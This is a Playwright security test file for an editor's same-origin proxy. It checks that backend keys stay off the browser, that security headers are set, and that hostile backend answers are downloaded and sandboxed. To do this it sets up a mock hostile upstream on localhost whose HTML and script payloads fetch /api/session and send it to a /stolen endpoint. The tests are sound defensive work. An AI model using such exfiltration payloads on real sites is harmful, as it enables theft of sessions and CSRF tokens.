// Issue 2: credentials stay on the server. The browser sees only the same-origin proxy; the
// reference backend's key must appear in no request, response, header, storage or page source.
import type { Page } from '@playwright/test'
import { spawn, type ChildProcess } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer as createHttpServer, type Server } from 'node:http'
import { createServer as createNetServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from './fixtures/test'
import { findField } from './fixtures/demo'

/** Everything the page sent and received, as text, gathered until `done()` is awaited. */
function recordTraffic(page: Page): { done(): Promise<string[]> } {
  const pending: Promise<string>[] = []
  page.on('request', (request) => {
    pending.push(
      request
        .allHeaders()
        .then((headers) =>
          [request.method(), request.url(), JSON.stringify(headers), request.postData() ?? ''].join(
            '\n',
          ),
        ),
    )
  })
  page.on('response', (response) => {
    // A live stream (text/event-stream) never ends while the editor is open, so its body cannot
    // be awaited; its headers are kept, and what it carries (presence, "saved") holds no secret.
    const streaming = (response.headers()['content-type'] ?? '').includes('text/event-stream')
    const body = streaming
      ? Promise.resolve(Buffer.from(''))
      : response.body().catch(() => Buffer.from(''))
    pending.push(
      Promise.all([response.allHeaders(), body]).then(([headers, body]) =>
        [response.status(), response.url(), JSON.stringify(headers), body.toString('utf8')].join(
          '\n',
        ),
      ),
    )
  })
  return { done: () => Promise.all(pending) }
}

async function storageSnapshot(page: Page): Promise<string> {
  const content = await page.content()
  const storage = await page.evaluate(() =>
    JSON.stringify({
      cookie: document.cookie,
      local: Object.entries(localStorage),
      session: Object.entries(sessionStorage),
    }),
  )
  const cookies = JSON.stringify(await page.context().cookies())
  return [content, storage, cookies].join('\n')
}

test('the backend key never reaches the browser while editing and saving', async ({
  page,
  editor,
  backend,
}) => {
  const key = backend.key()
  expect(key.length).toBeGreaterThanOrEqual(16)
  const traffic = recordTraffic(page)
  const origins = new Set<string>()
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (url.protocol === 'http:' || url.protocol === 'https:') origins.add(url.origin)
  })

  const [home, schema] = await backend.homeWithSchema()
  const { block, field } = findField(home.blocks, schema, 'text')
  await editor.open('pages', 'home')
  const input = await editor.field(block.id, field.label)
  await input.fill('Edited without a key in sight')
  await editor.save()
  await editor.expectSaved()
  await expect.poll(async () => (await backend.blockPatches()).length).toBe(1)
  const snapshots = [await storageSnapshot(page)]
  await page.reload()
  await expect(editor.blocks.first()).toBeVisible()
  snapshots.push(await storageSnapshot(page))

  const seen = [...(await traffic.done()), ...snapshots]
  expect(seen.length).toBeGreaterThan(5)
  // Only the app's own origin is ever contacted: the backend is reached through the proxy.
  expect([...origins]).toEqual([new URL(page.url()).origin])
  const leaks = seen.filter((text) => text.includes(key))
  expect(leaks).toEqual([])
  const keyHeaders = seen.filter((text) => /API-Key/i.test(text) && /authorization/i.test(text))
  expect(keyHeaders).toEqual([])
})

test('/api/config names the backend but holds no secret', async ({ request, backend }) => {
  const response = await request.get('/api/config')
  expect(response.status()).toBe(200)
  expect(response.headers()['content-type']).toContain('application/json')
  const text = await response.text()
  expect(text).not.toContain(backend.key())
  expect(text).not.toMatch(/api[-_]?key|secret|password|token|authorization/i)
  const config: unknown = JSON.parse(text)
  expect(config).toMatchObject({ backend: 'basker' })
})

test('pages and API answers carry security headers', async ({ request }) => {
  for (const path of ['/', '/edit/pages/home', '/api/config']) {
    const response = await request.get(path)
    expect(response.status(), path).toBe(200)
    const headers = response.headers()
    expect(headers['x-content-type-options'], path).toBe('nosniff')
    expect(headers['referrer-policy'], path).toBeTruthy()
    const csp = headers['content-security-policy'] ?? ''
    const framing = headers['x-frame-options'] ?? ''
    expect(
      /frame-ancestors\s+('none'|'self')/.test(csp) || /deny|sameorigin/i.test(framing),
      path,
    ).toBe(true)
  }
  const page = await request.get('/')
  const csp = page.headers()['content-security-policy'] ?? ''
  expect(csp).toMatch(/default-src/)
  expect(csp).not.toMatch(/'unsafe-eval'/)
  expect(page.headers()['x-powered-by']).toBeUndefined()
})

// Issue 17: a backend that answers HTML (or script) must not get a page of its own under the
// editor's origin, where it could read /api/session and its CSRF token. A hostile upstream serves
// both; a server of our own proxies to it (BACKEND_URL) and Chromium opens what it answers.
test.describe('a hostile backend answer', () => {
  // A free port of the machine's choosing: the fixed offsets above E2E_PORT belong to the
  // other backends' and the chaos servers.
  let origin = ''
  let upstream: Server
  const stolen: string[] = []
  let server: ChildProcess | null = null
  let dataDir = ''

  test.beforeAll(async () => {
    // Starting a server of its own (tsx, PGlite, seeds) takes a while on a busy machine.
    test.setTimeout(180_000)
    upstream = createHttpServer((req, res) => {
      if (req.url?.startsWith('/stolen')) {
        stolen.push(req.url)
        res.writeHead(204).end()
        return
      }
      if (req.url?.startsWith('/evil.html')) {
        res.writeHead(200, { 'Content-Type': 'text/html' })
        res.end(
          `<!doctype html><title>evil</title><script src="/api/backend/x.js"></script>` +
            `<script>fetch('/api/session').then((r) => r.text()).then((t) =>` +
            ` fetch('${upstreamOrigin()}/stolen?' + encodeURIComponent(t), {mode: 'no-cors'}))</script>`,
        )
        return
      }
      if (req.url?.startsWith('/x.js')) {
        res.writeHead(200, { 'Content-Type': 'text/javascript' })
        res.end(
          `window.__ran = true; fetch('${upstreamOrigin()}/stolen?script', {mode: 'no-cors'})`,
        )
        return
      }
      res.writeHead(404, { 'Content-Type': 'application/json' }).end('{}')
    })
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
    const port = await new Promise<number>((resolve) => {
      const probe = createNetServer().listen(0, '127.0.0.1', () => {
        const address = probe.address()
        probe.close(() => resolve(typeof address === 'object' && address ? address.port : 0))
      })
    })
    origin = `http://127.0.0.1:${port}`
    dataDir = mkdtempSync(join(tmpdir(), 'e2e-hostile-'))
    server = spawn(
      join(process.cwd(), 'node_modules', '.bin', 'tsx'),
      [join(process.cwd(), 'src', 'server', 'main.ts')],
      {
        cwd: dataDir,
        env: {
          ...process.env,
          PORT: String(port),
          HOST: '127.0.0.1',
          DATA_DIR: dataDir,
          BACKEND: 'basker',
          BACKEND_URL: upstreamOrigin(),
          BACKEND_API_KEY: 'hostile-test-key-0123456789',
          DATABASE_URL: '',
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    )
    await new Promise<void>((resolve, reject) => {
      server?.stdout?.on('data', (chunk: Buffer) => {
        if (chunk.toString().includes('Editor running')) resolve()
      })
      server?.on('exit', (code) => reject(new Error(`server exited with ${code}`)))
    })
  })

  test.afterAll(async () => {
    // The server still writes its database while it stops: remove its folder once it has exited.
    const exited =
      server && server.exitCode === null
        ? new Promise<void>((resolve) => server?.once('exit', () => resolve()))
        : Promise.resolve()
    server?.kill('SIGTERM')
    await exited
    await new Promise<void>((resolve) => upstream.close(() => resolve()))
    rmSync(dataDir, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 })
  })

  function upstreamOrigin(): string {
    const address = upstream.address()
    return typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : ''
  }

  test('is downloaded, sandboxed and never run under the editor origin', async ({ page }) => {
    const response = await page.request.get(`${origin}/api/backend/evil.html`)
    expect(response.headers()['content-type']).toBe('application/octet-stream')
    expect(response.headers()['content-disposition']).toMatch(/^attachment/)
    expect(response.headers()['content-security-policy']).toMatch(/^sandbox/)

    // Opened as a page: Chromium downloads it instead of rendering it.
    const download = page.waitForEvent('download')
    await page.goto(`${origin}/api/backend/evil.html`).catch(() => undefined)
    expect((await download).suggestedFilename()).toBe('backend-answer')

    // From a page of the editor's origin: as a frame it renders nothing that runs, and as a
    // script it is refused (nosniff: not JavaScript).
    await page.goto(`${origin}/api/config`)
    const results = await page.evaluate(async () => {
      const script = document.createElement('script')
      script.src = '/api/backend/x.js'
      const loaded = new Promise<string>((resolve) => {
        script.onload = () => resolve('loaded')
        script.onerror = () => resolve('refused')
      })
      document.body.append(script)
      const frame = document.createElement('iframe')
      frame.src = '/api/backend/evil.html'
      const framed = new Promise<void>((resolve) => {
        frame.onload = () => resolve()
        setTimeout(resolve, 2000)
      })
      document.body.append(frame)
      await framed
      return {
        script: await loaded,
        ran: (window as { __ran?: boolean }).__ran ?? false,
        frameTitle: (() => {
          try {
            return frame.contentDocument?.title ?? null
          } catch {
            return 'opaque'
          }
        })(),
      }
    })
    expect(results.script).toBe('refused')
    expect(results.ran).toBe(false)
    expect(results.frameTitle).not.toBe('evil')
    // The upstream's page never got to call home.
    await page.request.get(`${origin}/api/config`)
    expect(stolen).toEqual([])
  })
})
